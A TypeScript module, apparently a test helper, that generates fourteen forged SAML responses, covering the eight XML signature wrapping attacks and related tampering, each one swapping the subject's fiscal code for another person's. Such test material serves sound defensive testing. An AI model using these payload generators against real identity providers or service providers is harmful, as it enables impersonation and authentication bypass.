import { DOMParser, XMLSerializer, type Document, type Element } from '@xmldom/xmldom'

type Parts = { document: Document; response: Element; assertion: Element; signature: Element }

export type Wrapping = Readonly<{ name: string; wrap: (signed: string) => string }>

const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol'
const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#'

const child = (parent: Element, name: string): Element =>
  [...parent.childNodes].find((node) => node.localName === name) as Element

/**
 * The eight forms of XML signature wrapping (Somorovsky and others, "On Breaking SAML", 2012): the signed element stays
 * in the document so that its signature verifies, and another one, the attacker's, takes its place.
 */
export const WRAPPINGS: readonly Wrapping[] = [
  of('xsw1: the signed response inside the signature of another', ({ document, response }) => {
    const original = cloneOf(response)
    removeSignature(original)
    child(response, 'Signature').appendChild(original)
    forge(child(response, 'Assertion'))
    response.setAttribute('ID', '_forged')
    return document
  }),
  of('xsw2: the signed response before the signature of another', ({ document, response }) => {
    const original = cloneOf(response)
    removeSignature(original)
    response.insertBefore(original, child(response, 'Signature'))
    forge(child(response, 'Assertion'))
    response.setAttribute('ID', '_forged')
    return document
  }),
  of('xsw3: a forged assertion before the signed one', ({ document, response, assertion }) => {
    response.insertBefore(forgery(assertion), assertion)
    return document
  }),
  of('xsw4: the signed assertion inside a forged one', ({ document, response, assertion }) => {
    const forged = forgery(assertion)
    response.replaceChild(forged, assertion)
    forged.appendChild(assertion)
    return document
  }),
  of('xsw5: a forged assertion with the signature, the signed one after it', ({ document, response, assertion }) => {
    const original = cloneOf(assertion)
    removeSignature(original)
    forge(assertion)
    assertion.setAttribute('ID', '_forged')
    response.appendChild(original)
    return document
  }),
  of('xsw6: the signed assertion inside the signature of a forged one', ({ document, assertion, signature }) => {
    const original = cloneOf(assertion)
    removeSignature(original)
    forge(assertion)
    assertion.setAttribute('ID', '_forged')
    signature.appendChild(original)
    return document
  }),
  of('xsw7: a forged assertion in Extensions, with the same ID', ({ document, response, assertion }) => {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions')
    const forged = cloneOf(assertion)
    removeSignature(forged)
    forge(forged)
    extensions.appendChild(forged)
    response.insertBefore(extensions, assertion)
    return document
  }),
  of('xsw8: the signed assertion in an Object of the signature', ({ document, assertion, signature }) => {
    const object = document.createElementNS(SIGNATURE, 'ds:Object')
    const original = cloneOf(assertion)
    removeSignature(original)
    object.appendChild(original)
    signature.appendChild(object)
    forge(assertion)
    return document
  }),
  of('case 112: a signed element first, the assertion unsigned', ({ document, response, assertion }) => {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions')
    extensions.appendChild(cloneOf(assertion))
    response.insertBefore(extensions, response.firstChild)
    removeSignature(assertion)
    forge(assertion)
    assertion.setAttribute('ID', '_forged')
    return document
  }),
  of('case 113: a signed element first, the signature of the assertion broken', ({ document, response, assertion }) => {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions')
    extensions.appendChild(cloneOf(assertion))
    response.insertBefore(extensions, response.firstChild)
    forge(assertion)
    return document
  }),
  of('a value changed after signing', ({ document, assertion }) => {
    forge(assertion)
    return document
  }),
  of('another element with the ID of the assertion', ({ document, response, assertion }) => {
    const other = document.createElementNS('urn:other', 'o:Other')
    other.setAttribute('ID', assertion.getAttribute('ID')!)
    response.appendChild(other)
    return document
  }),
  of('a signature where none belongs', ({ document, response, signature }) => {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions')
    extensions.appendChild(cloneOf(signature))
    response.appendChild(extensions)
    return document
  }),
  of('two assertions, both signed', ({ document, response, assertion }) => {
    response.appendChild(cloneOf(assertion))
    return document
  }),
  of('an assertion beside an encrypted one', ({ document, response }) => {
    response.appendChild(document.createElementNS('urn:oasis:names:tc:SAML:2.0:assertion', 'saml:EncryptedAssertion'))
    return document
  }),
]

function of(name: string, change: (parts: Parts) => Document): Wrapping {
  return {
    name,
    wrap(signed) {
      const document = new DOMParser().parseFromString(signed, 'text/xml')
      const response = document.documentElement!
      const assertion = child(response, 'Assertion')
      return new XMLSerializer().serializeToString(
        change({ document, response, assertion, signature: child(assertion, 'Signature') }),
      )
    },
  }
}

const cloneOf = (element: Element): Element => element.cloneNode(true) as Element

function removeSignature(element: Element): void {
  element.removeChild(child(element, 'Signature'))
}

/** Makes an assertion name another person. */
function forge(assertion: Element): void {
  const values = [...assertion.getElementsByTagNameNS('*', 'AttributeValue')]
  for (const value of values) if (value.textContent?.startsWith('TINIT-')) value.textContent = 'TINIT-RNLMRC81C02D653D'
}

function forgery(assertion: Element): Element {
  const forged = cloneOf(assertion)
  removeSignature(forged)
  forge(forged)
  forged.setAttribute('ID', '_forged')
  return forged
}
